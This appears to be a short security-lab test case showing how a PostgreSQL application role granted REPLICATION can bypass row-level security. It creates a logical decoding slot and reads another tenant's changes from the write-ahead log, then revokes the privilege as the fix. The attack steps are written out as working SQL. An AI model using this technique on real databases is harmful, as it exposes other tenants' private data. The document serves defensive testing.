-- app role has REPLICATION: logical decoding returns all tenants' changes

--- setup
ALTER ROLE rls_app REPLICATION;

--- attack
--- as rls_app
SET app.tenant_id='1';
SELECT lab.x($$SELECT pg_create_logical_replication_slot('leak_slot','test_decoding')$$);
--- as postgres
UPDATE app.project SET name=name WHERE tenant_id=2;
--- as rls_app
SELECT lab.v(lab.n($q$select 1 from pg_logical_slot_peek_changes('leak_slot',null,null) where data like '%victim-secret%'$q$)>0,'decoded WAL shows victim rows');
SELECT lab.x($$SELECT pg_drop_replication_slot('leak_slot')$$);

--- fix
ALTER ROLE rls_app NOREPLICATION;
